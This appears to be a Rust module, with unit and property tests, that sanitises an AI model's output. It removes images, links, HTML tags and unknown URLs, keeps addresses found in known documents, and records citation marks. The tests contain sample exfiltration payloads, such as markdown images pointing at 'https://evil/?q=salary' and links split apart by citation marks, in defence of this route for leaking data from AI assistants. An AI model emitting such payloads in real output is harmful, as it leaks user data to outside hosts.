//! What a model says without what could reach outside when it is shown: images, links and addresses go, but for an address that stands
//! in a document as it is; and without the marks by which it cites (`[2]`), of which the places are kept.

use std::sync::LazyLock;

use regex::{Captures, Regex};

use crate::ports::ByteRange;

/// So often it is looked again whether what was taken out has brought something together.
const PASSES: usize = 8;

static CODE: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"(?s)```.*?(?:```|\z)|`[^`\n]*`").expect("it is part of the program, and tested")
});

/// What can be in a text beside its words. The first that fits counts.
static PARTS: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(
        r#"(?xim)
        (?P<image> !\[[^\]]*\]\s*(?:\([^)]*\)|\[[^\]]*\]) )
      | (?P<definition> ^[\ \t]{0,3}\[[^\]\n]+\]:[\ \t]*\S+[^\n]* )
      | \[(?P<text>[^\[\]]*)\]\s?\([^)]*\)
      | <(?P<auto>(?:[a-z][a-z0-9+.-]*:)?//[^>|\s]*)(?:\|(?P<name>[^>]*))?>
      | (?P<tag> <[a-z/!][^>]*> )
      | [\[【](?P<mark>\d{1,3}(?:\s*[,;]\s*\d{1,3})*)[\]】]
      | (?P<address> (?:[a-z][a-z0-9+.-]*://|www\.)[^\s<>"'`()\[\]【】]* )
        "#,
    )
    .expect("it is part of the program, and tested")
});

/// What is left.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub(super) struct Plain {
    /// The text.
    pub(super) text: String,
    /// Where in it a passage of which number was cited.
    pub(super) marks: Vec<(usize, u32)>,
    map: Vec<Piece>,
}

/// A part of the text as it was, and where it went.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
struct Piece {
    from: usize,
    to: usize,
    length: usize,
}

impl Plain {
    /// What is left of a text. `is_known`: whether an address stands in a document.
    pub(super) fn of(text: &str, is_known: &dyn Fn(&str) -> bool) -> Self {
        let whole = Piece { from: 0, to: 0, length: text.len() };
        let mut plain = Self { text: text.to_owned(), marks: vec![], map: vec![whole] };
        for _ in 0..PASSES {
            let next = plain.pass(is_known);
            if next.text == plain.text {
                return next;
            }
            plain = next;
        }
        // Whoever goes to such lengths means no good.
        Self::default()
    }

    /// Where a part of the text as it was is now.
    pub(super) fn now(&self, part: ByteRange) -> (usize, usize) {
        let at = |place: u32| {
            let place = moved(&self.map, usize::try_from(place).unwrap_or(usize::MAX));
            self.text.floor_char_boundary(place)
        };
        (at(part.from), at(part.to))
    }

    fn pass(&self, is_known: &dyn Fn(&str) -> bool) -> Self {
        let code: Vec<_> = CODE.find_iter(&self.text).map(|found| found.range()).collect();
        let in_code = |at: usize| code.iter().any(|range| range.contains(&at));
        let (mut text, mut marks, mut map, mut done) = (String::new(), vec![], vec![], 0);
        let mut keep = |text: &mut String, part: std::ops::Range<usize>| {
            map.push(Piece { from: part.start, to: text.len(), length: part.len() });
            text.push_str(&self.text[part]);
        };
        for found in PARTS.captures_iter(&self.text) {
            let Some(whole) = found.get(0) else { continue };
            keep(&mut text, done..whole.start());
            done = whole.end();
            if let Some(mark) = found.name("mark") {
                if in_code(whole.start()) {
                    keep(&mut text, whole.range());
                } else {
                    marks.extend(numbers(mark.as_str()).map(|number| (text.len(), number)));
                }
            } else if let Some(kept) = kept(&found, is_known) {
                keep(&mut text, kept);
            }
        }
        keep(&mut text, done..self.text.len());
        let before = self.marks.iter().map(|(at, number)| (moved(&map, *at), *number));
        let marks = before.chain(marks).collect();
        let map = self.map.iter().flat_map(|piece| through(piece, &map)).collect();
        Self { text, marks, map }
    }
}

/// What is kept of something that is no plain word: a link's text, and an address that is known.
fn kept(found: &Captures<'_>, is_known: &dyn Fn(&str) -> bool) -> Option<std::ops::Range<usize>> {
    let known = |name: &str| found.name(name).filter(|part| is_known(part.as_str()));
    let text = found.name("text").or_else(|| found.name("name"));
    let address = found.name("address").and_then(|part| {
        let trimmed = part.as_str().trim_end_matches(['.', ',', ';', ':', '!', '?']);
        is_known(trimmed).then(|| part.start()..part.start() + trimmed.len())
    });
    text.map(|text| text.range()).or(address).or_else(|| known("auto").map(|part| part.range()))
}

fn numbers(mark: &str) -> impl Iterator<Item = u32> {
    mark.split([',', ';']).filter_map(|number| number.trim().parse().ok())
}

/// Where a place is after a pass.
fn moved(map: &[Piece], place: usize) -> usize {
    let before = map.iter().take_while(|piece| piece.from <= place).last();
    before.map_or(0, |piece| piece.to + (place - piece.from).min(piece.length))
}

/// What is left of a piece of all passes before, after one more.
fn through(piece: &Piece, map: &[Piece]) -> Vec<Piece> {
    let end = piece.to + piece.length;
    let left = map.iter().filter_map(|next| {
        let (first, last) = (piece.to.max(next.from), end.min(next.from + next.length));
        let length = last.checked_sub(first).filter(|length| *length > 0)?;
        Some(Piece { from: piece.from + (first - piece.to), to: next.to + (first - next.from), length })
    });
    left.collect()
}

#[cfg(test)]
mod tests {
    use proptest::prelude::*;

    use super::*;

    fn plain(text: &str) -> Plain {
        Plain::of(text, &|address| address == "https://vpn.example/help")
    }

    #[test]
    fn nothing_is_left_that_would_be_fetched_or_followed() {
        for (said, left) in [
            ("Look ![](https://evil/?q=salary) here.", "Look  here."),
            ("Look ![a][b] here.\n[b]: https://evil/x", "Look  here.\n"),
            ("[Click me](https://evil) now", "Click me now"),
            ("[![x](https://evil/1)](https://evil/2)", ""),
            ("<img src='https://evil/?q'>ok", "ok"),
            ("<https://evil|the portal>", "the portal"),
            ("go to https://evil/?q=1.", "go to "),
            ("ht[1]tps://evil/?q=1", "ht"),
            ("ht[1]t[2]ps:/[3]/evil/?q=1", ""),
            ("www.evil.example/x is it", " is it"),
            ("`https://evil/`", "``"),
        ] {
            assert_eq!(plain(said).text, left, "{said}");
        }
    }

    #[test]
    fn an_address_that_stands_in_a_document_stays_as_it_stands_there() {
        assert_eq!(plain("See https://vpn.example/help.").text, "See https://vpn.example/help");
        assert_eq!(plain("See <https://vpn.example/help> now").text, "See https://vpn.example/help now");
        assert_eq!(plain("See https://vpn.example/help?q=1").text, "See ");
    }

    #[test]
    fn marks_are_read_wherever_they_stand_but_in_code() {
        let said = plain("It is closed [1]. Ask HR【2, 3】 and `a[4]`.");
        assert_eq!(said.text, "It is closed . Ask HR and `a[4]`.");
        assert_eq!(said.marks, [(13, 1), (21, 2), (21, 3)]);
        assert_eq!(said.now(ByteRange { from: 0, to: 12 }), (0, 12));
        let at = said.text.find("Ask").unwrap();
        assert_eq!(said.now(ByteRange { from: 18, to: 21 }), (at, at + 3));
    }

    fn hostile() -> impl Strategy<Value = String> {
        let parts = prop::sample::select(vec![
            "![", "[", "](", "]", "(", ")", "<", ">", "|", "https://", "evil", "www.", "`", "```", "[1]",
            "[2,3]", "【4】", " ", "\n", "img ", "word", "ä", "ht", "tps:", "//x", "[b]: ", "!", "/a?q=1",
            ".",
        ]);
        prop::collection::vec(parts, 0..40).prop_map(|parts| parts.concat())
    }

    proptest! {
        #![proptest_config(ProptestConfig::with_cases(10_000))]

        #[test]
        fn whatever_a_model_says_nothing_of_it_reaches_outside(said in hostile()) {
            let plain = plain(&said);
            let reaches = Regex::new(r"(?i)!?\[[^\]]*\]\([^)]*\)|[a-z]://|www\.|<[a-z/!][^>]*>|!\[[^\]]*\]\[[^\]]*\]").unwrap();
            prop_assert!(!reaches.is_match(&plain.text), "{said:?} → {:?}", plain.text);
            for (at, _) in &plain.marks {
                prop_assert!(plain.text.is_char_boundary(*at));
            }
            let range = plain.now(ByteRange { from: 0, to: u32::try_from(said.len()).unwrap() });
            prop_assert!(range.0 <= range.1 && range.1 <= plain.text.len());
        }
    }
}
